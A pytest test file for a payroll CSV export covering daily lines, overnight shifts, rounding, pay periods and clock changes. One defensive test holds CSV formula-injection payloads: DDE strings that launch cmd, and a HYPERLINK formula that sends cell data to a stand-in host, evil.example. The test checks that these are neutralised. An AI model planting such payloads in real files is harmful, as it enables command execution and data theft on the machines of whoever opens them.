"""Payroll export (CSV): one line per worker per day, totals, rounding, overnight shifts.

The first tests are written on the `tempclock` fixture (`tempclock.plugins.testing`), as a
third party's are; the later ones need the clock moved (time_machine) or the CLI."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import time_machine
from test_cli_connectors import tc

from tempclock.api.services import clocking, connectors, cost_codes, departments, timesheets
from tempclock.plugins.payroll_csv import PayrollCsvExport, pay_period, rounded_minutes

PAYROLL = PayrollCsvExport()
# A fortnight in March 2026, well in the past; the site is in London (GMT then).
FIRST, LAST = dt.date(2026, 3, 2), dt.date(2026, 3, 15)


def at(day: int, hour: int, minute: int = 0) -> dt.datetime:
    return dt.datetime(2026, 3, day, hour, minute, tzinfo=dt.UTC)


def export(account, tmp_path, dry_run=False, **settings):
    settings = {"period": "custom", "date_from": FIRST.isoformat(), "date_to": LAST.isoformat(),
                "output_dir": str(tmp_path / "out"), **settings}
    return connectors.run_connector(account.id, PAYROLL, overrides=settings, dry_run=dry_run)


def pay(tempclock, tmp_path, dry_run=False, **settings):
    """The export of the fortnight, run on the `tempclock` fixture as a plugin's tests do."""
    settings = {"period": "custom", "date_from": FIRST.isoformat(), "date_to": LAST.isoformat(),
                "output_dir": str(tmp_path / "out"), **settings}
    return tempclock.run(PAYROLL, settings, dry_run=dry_run)


def read(tmp_path, suffix: str = "") -> list[dict[str, str]]:
    return _read_file(tmp_path / "out" / f"payroll_{FIRST}_{LAST}{suffix}.csv")


def _read_file(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture
def leeds(tempclock):
    return tempclock.add_location("Leeds DC")


@pytest.fixture
def ann(tempclock, leeds):
    return tempclock.add_worker("Ann", "Nowak", location=leeds, employee_ref="EMP-0001")


# --- on the `tempclock` fixture ----------------------------------------------------------------


def test_a_day_of_work_becomes_one_line_with_hours_and_breaks(tempclock, leeds, ann, tmp_path):
    pick = tempclock.add_cost_code("PICK", "Picking")
    tempclock.add_entry(ann, at(3, 6), at(3, 14, 30), breaks=[(at(3, 10), at(3, 10, 30))],
                        cost_code=pick)
    result = pay(tempclock, tmp_path)
    assert result.status == "succeeded"
    (line,) = read(tmp_path)
    assert line == {"employee_ref": "EMP-0001", "worker": "Ann Nowak",
                    "date": "2026-03-03", "department": "", "cost_code": "PICK",
                    "locations": "Leeds DC", "entries": "1", "first_in": "06:00",
                    "last_out": "14:30", "break_minutes": "30", "hours": "8.00"}


def test_an_overnight_shift_is_paid_on_the_day_it_started(tempclock, ann, tmp_path):
    # Started on the last day of the period: counted, though it ends the day after.
    tempclock.add_entry(ann, at(15, 22), at(16, 6))
    # Started the evening before the period: belongs to the previous period.
    tempclock.add_entry(ann, at(1, 22), at(2, 6))
    pay(tempclock, tmp_path)
    assert [(line["date"], line["hours"]) for line in read(tmp_path)] == [("2026-03-15", "8.00")]


def test_two_entries_on_a_day_share_a_line_and_totals_add_up(tempclock, leeds, ann, tmp_path):
    pick, pack = tempclock.add_cost_code("PICK"), tempclock.add_cost_code("PACK")
    tempclock.add_entry(ann, at(4, 6), at(4, 10), cost_code=pick)
    tempclock.add_entry(ann, at(4, 11), at(4, 13), cost_code=pick)
    tempclock.add_entry(ann, at(5, 6), at(5, 9), cost_code=pack)
    bob = tempclock.add_worker("Bob", "Smith", location=leeds)
    tempclock.add_entry(bob, at(4, 6), at(4, 12), cost_code=pack)
    pay(tempclock, tmp_path)
    lines = read(tmp_path)
    ann_day = next(line for line in lines if line["worker"] == "Ann Nowak"
                   and line["date"] == "2026-03-04")
    assert (ann_day["entries"], ann_day["hours"], ann_day["last_out"]) == ("2", "6.00", "13:00")
    per_worker = {row["worker"]: (row["days"], row["hours"])
                  for row in read(tmp_path, "_workers")}
    assert per_worker == {"Ann Nowak": ("2", "9.00"), "Bob Smith": ("1", "6.00")}
    per_code = {row["cost_code"]: (row["workers"], row["hours"])
                for row in read(tmp_path, "_cost_codes")}
    assert per_code == {"PICK": ("1", "6.00"), "PACK": ("2", "9.00")}


def test_only_completed_and_approved_time_is_paid_by_default(tempclock, ann, tmp_path):
    tempclock.add_entry(ann, at(3, 6), at(3, 10), status="approved")
    tempclock.add_entry(ann, at(4, 6), at(4, 10), status="disputed")
    pay(tempclock, tmp_path)
    assert [line["date"] for line in read(tmp_path)] == ["2026-03-03"]
    pay(tempclock, tmp_path, statuses="approved")
    assert [line["date"] for line in read(tmp_path)] == ["2026-03-03"]


def test_each_days_time_is_rounded_as_set(tempclock, ann, tmp_path):
    tempclock.add_entry(ann, at(3, 6), at(3, 13, 52))
    pay(tempclock, tmp_path, rounding_minutes="15", rounding_mode="nearest")
    assert read(tmp_path)[0]["hours"] == "7.75"
    pay(tempclock, tmp_path, rounding_minutes="15", rounding_mode="up")
    assert read(tmp_path)[0]["hours"] == "8.00"


def test_a_dry_run_writes_no_files(tempclock, ann, tmp_path):
    tempclock.add_entry(ann, at(3, 6), at(3, 10))
    result = pay(tempclock, tmp_path, dry_run=True)
    assert result.counts["lines"] == 1
    assert not (tmp_path / "out").exists()


def test_many_short_entries_add_up_to_the_minute(tempclock, ann, tmp_path):
    for hour in (6, 7, 8):  # 20 minutes each: 0.33 h apiece when rounded one by one
        tempclock.add_entry(ann, at(3, hour), at(3, hour, 20))
    pay(tempclock, tmp_path)
    assert read(tmp_path)[0]["hours"] == "1.00"
    assert read(tmp_path, "_workers")[0]["hours"] == "1.00"


# --- pay periods and rounding ------------------------------------------------------------------


@pytest.mark.parametrize(("period", "today", "expected"), [
    ("last_week", dt.date(2026, 3, 11), (dt.date(2026, 3, 2), dt.date(2026, 3, 8))),
    ("this_week", dt.date(2026, 3, 11), (dt.date(2026, 3, 9), dt.date(2026, 3, 15))),
    ("last_fortnight", dt.date(2026, 3, 11), (dt.date(2026, 2, 23), dt.date(2026, 3, 8))),
    ("last_month", dt.date(2026, 3, 11), (dt.date(2026, 2, 1), dt.date(2026, 2, 28))),
    ("this_month", dt.date(2026, 12, 31), (dt.date(2026, 12, 1), dt.date(2026, 12, 31))),
])
def test_pay_periods(period, today, expected):
    assert pay_period(period, today) == expected


def test_a_week_may_start_on_sunday():
    assert pay_period("last_week", dt.date(2026, 3, 11), week_starts="sunday") == (
        dt.date(2026, 3, 1), dt.date(2026, 3, 7))


@pytest.mark.parametrize(("minutes", "step", "mode", "expected"), [
    (472, 15, "nearest", 465), (473, 15, "nearest", 480), (466, 15, "up", 480),
    (479, 15, "down", 465), (472.4, 0, "nearest", 472), (61, 6, "nearest", 60),
])
def test_rounding(minutes, step, mode, expected):
    assert rounded_minutes(minutes, step, mode) == expected


# --- entries that are not paid ---------------------------------------------------------------


def test_an_entry_still_open_is_reported_by_worker_site_and_site_time_and_not_paid(
        account, site, worker, make_worker, tmp_path):
    clocking.record_entry(account.id, worker.id, site.id, at(2, 6), at(2, 14))
    bob = make_worker(account.id, "Bob", "Smith", location_id=site.id)
    with time_machine.travel(at(3, 9), tick=False):
        clocking.clock_in(account.id, bob.id, timestamp=at(3, 6))  # never clocked out
    result = export(account, tmp_path)
    assert result.status == "succeeded"
    assert result.counts["open_entries"] == 1 and result.counts["entries"] == 1
    expected = (f"Bob Smith ({bob.employee_ref}) at Leeds DC: clocked in 2026-03-03 06:00 GMT "
                "and not clocked out, so not paid")
    assert result.needs_attention == [expected]
    assert f"warning: {expected}" in result.log
    assert ("warning: The export for 2026-03-02 to 2026-03-15 is incomplete: 1 entry is not "
            "paid (1 still clocked in)") in result.log
    assert [line["worker"] for line in read(tmp_path)] == ["Ann Nowak"]
    (kept,) = connectors.list_runs(account.id, "payroll-csv")
    assert kept.needs_attention == [expected]  # the run record keeps it


def test_disputed_and_unchosen_entries_are_reported_as_not_paid(account, site, worker, tmp_path):
    approved = clocking.record_entry(account.id, worker.id, site.id, at(3, 6), at(3, 10))
    disputed = clocking.record_entry(account.id, worker.id, site.id, at(4, 6), at(4, 10))
    clocking.record_entry(account.id, worker.id, site.id, at(5, 6), at(5, 10))  # completed
    timesheets.set_entry_status(account.id, approved.id, "approved")
    timesheets.set_entry_status(account.id, disputed.id, "disputed")
    who = f"Ann Nowak ({worker.employee_ref}) at Leeds DC"
    result = export(account, tmp_path)
    assert result.needs_attention == [
        f"{who}: 2026-03-04 06:00 GMT to 2026-03-04 10:00 GMT is disputed, so not paid "
        "(this export pays completed and approved time)"]
    assert (result.counts["excluded_entries"], result.counts["open_entries"]) == (1, 0)
    only_approved = export(account, tmp_path, statuses="approved")
    assert [message.split(" is ")[1] for message in only_approved.needs_attention] == [
        "disputed, so not paid (this export pays approved time)",
        "completed, so not paid (this export pays approved time)"]
    assert only_approved.counts["excluded_entries"] == 2


def test_a_complete_period_needs_no_attention(account, site, worker, tmp_path):
    clocking.record_entry(account.id, worker.id, site.id, at(3, 6), at(3, 10))
    result = export(account, tmp_path)
    assert result.needs_attention == []
    assert (result.counts["open_entries"], result.counts["excluded_entries"]) == (0, 0)
    assert not any(line.startswith("warning:") for line in result.log)


def test_a_connector_reads_open_entries_through_its_context(account, site, worker):
    with time_machine.travel(at(3, 9), tick=False):
        clocking.clock_in(account.id, worker.id, timestamp=at(3, 6))
    context = connectors.AccountContext(account.id)
    (entry,) = context.time_entries(FIRST, LAST, statuses=("open",))
    assert (entry["status"], entry["clock_out"], entry["total_hours"]) == ("open", None, None)
    assert [e["id"] for e in context.time_entries(FIRST, LAST, statuses="open")] == [entry["id"]]
    assert list(context.time_entries(FIRST, LAST)) == []  # closed entries only, by default
    with pytest.raises(ValueError, match="Unknown entry status 'pending'"):
        list(context.time_entries(FIRST, LAST, statuses=("pending",)))


def test_the_cli_says_what_needs_attention_in_words_and_in_json(config, account, site, worker,
                                                                tmp_path):
    with time_machine.travel(at(3, 9), tick=False):
        clocking.clock_in(account.id, worker.id, timestamp=at(3, 6))
    args = ["connectors", "run", "payroll-csv", "--account", str(account.id),
            "--set", "period=custom", "--set", f"date_from={FIRST}", "--set", f"date_to={LAST}",
            "--set", f"output_dir={tmp_path / 'out'}"]
    expected = (f"Ann Nowak ({worker.employee_ref}) at Leeds DC: clocked in 2026-03-03 06:00 GMT "
                "and not clocked out, so not paid")
    human = tc(config.data_dir, *args).stdout
    assert "1 open_entries" in human
    assert "Needs attention (1): check these before using the output." in human
    assert f"  ! {expected}" in human
    as_json = json.loads(tc(config.data_dir, *args, "--json").stdout)
    assert as_json["status"] == "succeeded"
    assert as_json["needs_attention"] == [expected]
    assert as_json["counts"]["open_entries"] == 1


# --- spreadsheet formulas --------------------------------------------------------------------


def test_names_that_are_formulas_are_never_live_in_any_payroll_file(account, make_location,
                                                                   make_worker, tmp_path):
    dept = departments.create_department(account.id, departments.DepartmentCreate(
        name="@SUM(1+1)*cmd|' /C calc'!A0"))
    code = cost_codes.create_cost_code(account.id, cost_codes.CostCodeCreate(
        code="+cmd|' /C calc'!A0", name="Formula"))
    yard = make_location(account.id, "-2+3+cmd|' /C calc'!A0")
    hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"Payslip")'
    named = make_worker(account.id, hyperlink, "Nowak", employee_ref="-2+3",
                        department_id=dept.id, location_id=yard.id)
    clocking.record_entry(account.id, named.id, yard.id, at(3, 6), at(3, 10),
                          cost_code_id=code.id)
    export(account, tmp_path)
    files = {suffix: read(tmp_path, suffix) for suffix in ("", "_workers", "_cost_codes")}
    cells = [cell for rows in files.values() for row in rows for cell in row.values()]
    assert cells and not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    (line,) = files[""]
    assert (line["worker"], line["employee_ref"], line["department"], line["cost_code"],
            line["locations"]) == ("'" + hyperlink + " Nowak", "'-2+3", "'" + dept.name,
                                   "'" + code.code, "'" + yard.name)
    assert files["_cost_codes"][0]["cost_code"] == "'" + code.code


# --- hours across clock changes --------------------------------------------------------------

NIGHTS = [
    # zone, the night's first day, hours from 22:00 to 07:00 on the wall clock
    ("Europe/London", dt.date(2027, 3, 27), "8.00"),  # clocks go forward at 01:00
    ("Europe/London", dt.date(2027, 10, 30), "10.00"),  # clocks go back at 02:00
    ("America/New_York", dt.date(2027, 3, 13), "8.00"),  # forward at 02:00
    ("America/New_York", dt.date(2027, 11, 6), "10.00"),  # back at 02:00
]


@pytest.mark.parametrize(("timezone", "night", "hours"), NIGHTS,
                         ids=[f"{zone}-{night}" for zone, night, _ in NIGHTS])
def test_a_night_across_a_clock_change_is_paid_for_the_hours_really_worked(
        account, make_location, make_worker, tmp_path, timezone, night, hours):
    tz = ZoneInfo(timezone)
    site = make_location(account.id, "Night Depot", timezone=timezone)
    code = cost_codes.create_cost_code(account.id, cost_codes.CostCodeCreate(code="NIGHT",
                                                                              name="Nights"))
    clocked, recorded = (make_worker(account.id, first, "Night", location_id=site.id)
                         for first in ("Clocked", "Recorded"))
    start = dt.datetime.combine(night, dt.time(22), tzinfo=tz)
    end = dt.datetime.combine(night + dt.timedelta(days=1), dt.time(7), tzinfo=tz)
    with time_machine.travel(start, tick=False):  # clocked in and out as it happened
        clocking.clock_in(account.id, clocked.id, cost_code_id=code.id)
    with time_machine.travel(end, tick=False):
        clocking.clock_out(account.id, clocked.id)
        clocking.record_entry(account.id, recorded.id, site.id, start, end, cost_code_id=code.id)
    week = night - dt.timedelta(days=night.weekday())
    result = export(account, tmp_path, date_from=week.isoformat(),
                    date_to=(week + dt.timedelta(days=6)).isoformat())
    assert result.needs_attention == []
    stem = f"payroll_{week}_{week + dt.timedelta(days=6)}"
    lines = _read_file(tmp_path / "out" / f"{stem}.csv")
    assert [(line["worker"], line["date"], line["first_in"], line["last_out"], line["hours"])
            for line in lines] == [("Clocked Night", night.isoformat(), "22:00", "07:00", hours),
                                   ("Recorded Night", night.isoformat(), "22:00", "07:00", hours)]
    totals = _read_file(tmp_path / "out" / f"{stem}_workers.csv")
    assert [(row["worker"], row["hours"]) for row in totals] == [("Clocked Night", hours),
                                                                 ("Recorded Night", hours)]
    (by_code,) = _read_file(tmp_path / "out" / f"{stem}_cost_codes.csv")
    assert (by_code["cost_code"], by_code["workers"], by_code["hours"]) == (
        "NIGHT", "2", f"{2 * float(hours):.2f}")
